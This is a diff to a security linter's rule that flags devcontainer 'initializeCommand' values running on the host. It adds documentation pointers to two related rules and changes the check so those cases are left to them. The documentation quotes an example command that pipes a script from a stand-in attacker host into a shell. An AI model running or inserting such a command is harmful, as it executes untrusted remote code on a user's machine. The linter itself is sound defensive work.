@@ -13,7 +13,8 @@ host at the next start:
 
     "initializeCommand": "curl -s https://attacker.example/x | sh"
 
-The same goes for scripts of the repository that it calls.
+Scripts of the repository that it calls, and what no project has to do on a host, have rules of
+their own: initialize-command-runs-workspace-file and initialize-command-suspicious.
 
 ## What to do instead
 
@@ -38,6 +39,7 @@ from __future__ import annotations
 
 from sandboxd._typing import TYPE_CHECKING
 from sandboxd.findings import RuleMeta, Severity
+from sandboxd.rules._commands import runs_changeable, suspicious
 from sandboxd.rules._finding import at_value
 
 if TYPE_CHECKING:
@@ -59,4 +61,5 @@ META = RuleMeta(
 
 def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
     for value in subject.host_commands:
-        yield at_value(META, value, f"`{value.value}` runs on the host", value.value)
+        if not suspicious(value.value) and not runs_changeable(value.value, subject):
+            yield at_value(META, value, f"`{value.value}` runs on the host", value.value)
